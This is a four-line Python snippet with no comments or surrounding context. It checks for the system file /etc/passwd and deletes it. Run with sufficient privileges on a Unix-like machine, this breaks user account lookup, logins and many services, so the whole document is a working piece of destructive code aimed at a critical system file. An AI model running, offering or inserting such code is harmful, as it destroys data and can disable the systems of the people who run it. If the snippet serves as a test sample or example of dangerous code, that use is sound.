import os

file_path = "/etc/passwd"
if os.path.exists(file_path):
    os.remove(file_path)
